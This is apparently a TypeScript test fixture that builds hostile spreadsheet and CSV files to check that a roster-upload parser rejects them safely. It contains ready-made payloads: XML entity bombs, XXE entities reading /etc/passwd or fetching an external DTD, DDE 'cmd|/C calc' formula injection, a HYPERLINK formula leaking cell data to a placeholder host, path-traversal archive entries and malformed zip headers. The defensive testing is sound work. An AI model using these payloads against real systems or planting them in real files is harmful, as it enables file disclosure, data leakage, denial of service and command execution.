import { strToU8, zipSync } from 'fflate';
import { type CellValue, type SheetPlan, workbook } from '../adapters/roster/workbook-builder.ts';
import { pngOf } from '../adapters/scan/builders.ts';
import { costly, type HostileCase } from './hostile-case.ts';

const people: SheetPlan = {
  name: '汇总表',
  lines: [
    ['姓名', '单位'],
    ['王示例', '鞍山市计量所'],
  ],
};
const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const sheetPart = 'xl/worksheets/sheet1.xml';

const book = (parts: Readonly<Record<string, string | Uint8Array>> = {}, sheets = [people], prologue = '') =>
  workbook({ sheets, extraParts: parts, prologue });
const withRows = (rows: string, rest = '') =>
  book({ [sheetPart]: `<worksheet xmlns="${MAIN}"><sheetData>${rows}</sheetData>${rest}</worksheet>` });
const withCell = (value: CellValue) => book({}, [{ ...people, lines: [['姓名'], [value]] }]);

const roster = (
  title: string,
  make: () => Uint8Array | string | Promise<Uint8Array>,
  outcome: HostileCase['outcome'],
): HostileCase => ({
  door: 'roster',
  title,
  name: 'roster.xlsx',
  make: async () => {
    const made = await make();
    return typeof made === 'string' ? strToU8(made) : made;
  },
  outcome,
});

const laughs = (levels: number) =>
  `<!DOCTYPE a [<!ENTITY e0 "aaaaaaaaaa">${Array.from({ length: levels }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')}]>`;
const strings = (content: string, prologue = '') =>
  book({ 'xl/sharedStrings.xml': `${prologue}<sst xmlns="${MAIN}">${content}</sst>` });
const million = 1_000_000;

/** Workbooks that are archives, XML and formulas at once. */
const workbooks: readonly HostileCase[] = [
  roster(
    'a sheet that unfolds to 200 MB',
    () =>
      withRows(`<row r="1"><c r="A1" t="inlineStr"><is><t>${'a'.repeat(200 * million)}</t></is></c></row>`),
    'too-large',
  ),
  roster(
    'a sheet of 30 MB in one cell',
    () =>
      withRows(`<row r="1"><c r="A1" t="inlineStr"><is><t>${'a'.repeat(30 * million)}</t></is></c></row>`),
    'too-large',
  ),
  roster(
    'a sheet of a million cells',
    () =>
      withRows(
        Array.from(
          { length: 10_000 },
          (_, i) => `<row r="${i + 1}">${'<c r="A1"><v>1</v></c>'.repeat(100)}</row>`,
        ).join(''),
      ),
    'too-large',
  ),
  roster('a sheet of three million empty rows', () => withRows('<row/>'.repeat(3 * million)), 'too-large'),
  roster('rows that never close their brackets', () => withRows('<row '.repeat(400_000)), 'too-large'),
  costly(
    roster(
      'merged cells that never close their brackets',
      () => withRows('<row r="1"/>', '<mergeCell '.repeat(200_000)),
      'too-slow',
    ),
  ),
  roster(
    'relations that never close their brackets',
    () =>
      book({
        'xl/_rels/workbook.xml.rels': `<Relationships>${'<Relationship '.repeat(300_000)}</Relationships>`,
      }),
    'damaged',
  ),
  roster(
    'ten thousand merged ranges over the same cells',
    () => book({}, [{ ...people, merges: Array.from({ length: 10_000 }, () => 'A1:ZZ40000') }]),
    'read',
  ),
  roster(
    'elements nested 200 000 deep',
    () => withRows(`${'<row>'.repeat(200_000)}${'</row>'.repeat(200_000)}`),
    'too-large',
  ),
  roster(
    'an element of 200 000 attributes',
    () => withRows(`<row ${Array.from({ length: 200_000 }, (_, i) => `a${i}="x"`).join(' ')}/>`),
    'too-large',
  ),
  roster(
    'a thousand sheets',
    () =>
      book(
        {},
        Array.from({ length: 1000 }, (_, i) => ({ ...people, name: `s${i}` })),
      ),
    'read',
  ),
  roster('entities that laugh in a sheet', () => book({}, [people], laughs(9)), 'entity-declaration'),
  roster(
    'entities that laugh in the shared texts',
    () => strings('<si><t>&e9;</t></si>', laughs(9)),
    'entity-declaration',
  ),
  roster(
    'an entity that names a file',
    () => strings('<si><t>&e;</t></si>', '<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    'entity-declaration',
  ),
  roster(
    'an entity that names a server',
    () => strings('<si><t>x</t></si>', '<!DOCTYPE a SYSTEM "http://example.invalid/a.dtd">'),
    'entity-declaration',
  ),
  roster(
    'entities in the list of types',
    () => book({ '[Content_Types].xml': `${laughs(3)}<Types></Types>` }),
    'entity-declaration',
  ),
  roster(
    'entities in the styles, in small letters',
    () => book({ 'xl/styles.xml': `${laughs(3).toLowerCase()}<styleSheet/>` }),
    'entity-declaration',
  ),
  roster(
    'entities hidden by UTF-16',
    () => book({ [sheetPart]: Buffer.from(`\ufeff${laughs(3)}<worksheet/>`, 'utf16le') }),
    'damaged',
  ),
  roster(
    'a shared text that isn’t there',
    () => withRows('<row r="1"><c r="A1" t="s"><v>999999999</v></c></row>'),
    'damaged',
  ),
  roster(
    'a number of a million digits',
    () => withRows(`<row r="1"><c r="A1"><v>${'9'.repeat(million)}</v></c></row>`),
    'too-large',
  ),
  roster(
    'a number too large for a number',
    () => withRows('<row r="1"><c r="A1"><v>1e999999</v></c></row>'),
    'read',
  ),
  roster(
    'a date beyond all calendars',
    () => withRows('<row r="1"><c r="A1" s="1"><v>1e300</v></c></row>'),
    'read',
  ),
  roster('a cell at no place', () => withRows('<row r="0"><c r="A0"><v>1</v></c></row>'), 'read'),
  roster(
    'a cell at a negative place',
    () => withRows('<row r="-5"><c r="A-5"><v>1</v></c></row>'),
    'damaged',
  ),
  roster(
    'a cell in the last place there is',
    () => withRows('<row r="1"><c r="XFD1048576"><v>1</v></c></row>'),
    'too-large',
  ),
  roster(
    'a formula that starts a program',
    () => withCell({ formula: "cmd|'/C calc'!A0", value: '王示例' }),
    'read',
  ),
  roster(
    'a text that a table program would run',
    () => withCell('=HYPERLINK("http://example.invalid/"&A1,"x")'),
    'read',
  ),
  roster(
    'names that make an object of another kind',
    () => book({ __proto__: 'x', constructor: 'x', 'xl/__proto__': 'x' }),
    'read',
  ),
  roster(
    'a sheet whose name is a path with signs of direction',
    () => book({}, [{ ...people, name: '../../\u202Eslx' }]),
    'read',
  ),
  roster(
    'parts whose names are paths',
    () => book({ '../../../../etc/cron.d/x': 'x', '/etc/passwd': 'x', 'C:\\\\a.bat': 'x' }),
    'read',
  ),
  roster('a part with a name of 60 000 letters', () => book({ ['a'.repeat(60_000)]: 'x' }), 'read'),
  roster(
    'a sheet that is another archive',
    () => book({ [sheetPart]: zipSync({ a: strToU8('x') }) }),
    'damaged',
  ),
  roster(
    'a sheet named by a path outside',
    () =>
      book({
        'xl/_rels/workbook.xml.rels':
          '<Relationships><Relationship Id="rId1" Target="../../../etc/passwd" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>',
      }),
    'damaged',
  ),
  roster('macros', () => book({ 'xl/vbaProject.bin': 'x' }), 'macros'),
  roster(
    'links to other files',
    () => book({ 'xl/externalLinks/externalLink1.xml': '<x/>' }),
    'external-links',
  ),
  roster(
    'an archive that is a picture too',
    async () => Buffer.concat([await pngOf(), book()]),
    'unknown-type',
  ),
  roster(
    'an archive with a megabyte before it',
    () => Buffer.concat([Buffer.from('PK'), Buffer.alloc(million), book()]),
    'unknown-type',
  ),
  roster('half an archive', () => book().subarray(0, 700), 'damaged'),
  roster('an archive whose directory lies outside', () => withDirectoryAt(0x7fffffff), 'unknown-type'),
  roster('an archive of two billion entries', () => withEntries(0xffff), 'too-large'),
];

/** Tables as text. */
const texts: readonly HostileCase[] = [
  roster('twenty million commas', () => ','.repeat(19 * million), 'too-large'),
  roster('commas in lines of ninety thousand', () => `${','.repeat(90_000)}\n`.repeat(210), 'too-large'),
  roster('six million lines', () => 'a\n'.repeat(6 * million), 'too-large'),
  roster('fifty thousand lines of 130 cells', () => `${'ab,'.repeat(130)}\n`.repeat(49_000), 'too-large'),
  roster('nineteen million line breaks', () => '\n'.repeat(19 * million), 'too-large'),
  roster('nineteen megabytes of quotes', () => '"'.repeat(19 * million), 'too-large'),
  roster('an open quote over nineteen megabytes', () => `姓名,"${'a'.repeat(19 * million)}`, 'too-large'),
  roster('a file of 21 MB', () => 'a'.repeat(21 * million), 'too-large'),
  roster('formulas as text', () => '姓名,单位\n=1+1,"=cmd|\'/C calc\'!A0"\n@SUM(A1),+1\n', 'read'),
  roster(
    'signs of direction and without width in names',
    () => '姓名,单位\n王\u202E例示\u200B,\u2066鞍山\u2069\n',
    'read',
  ),
  roster('signs that steer a terminal', () => '姓名,单位\n\x1b[2J\x1b]0;x\x07王,\x08\x08\n', 'read'),
  roster('zeros within', () => `姓名\n${'a'.repeat(600)}\0b\n`, 'unknown-encoding'),
  roster('bytes of no encoding', () => Buffer.from([0xff, 0xff, 0x80, 0x20, 0xff]), 'unknown-encoding'),
  roster('a script', () => '#!/bin/sh\ntouch x\n', 'read'),
  roster('a PDF', () => '%PDF-1.7\n', 'unknown-type'),
  roster('nothing', () => '', 'unreadable-file'),
];

export const rosters: readonly HostileCase[] = [...workbooks, ...texts];

/** Where the end record's fields stand (APPNOTE 4.3.16), from its signature on. */
const endRecord = { entriesHere: 8, entries: 10, directoryAt: 16, length: 22 } as const;

function withDirectoryAt(offset: number): Uint8Array {
  const bytes = Buffer.from(book());
  bytes.writeUInt32LE(offset, bytes.length - endRecord.length + endRecord.directoryAt);
  return bytes;
}

function withEntries(count: number): Uint8Array {
  const bytes = Buffer.from(book());
  bytes.writeUInt16LE(count, bytes.length - endRecord.length + endRecord.entriesHere);
  bytes.writeUInt16LE(count, bytes.length - endRecord.length + endRecord.entries);
  return bytes;
}
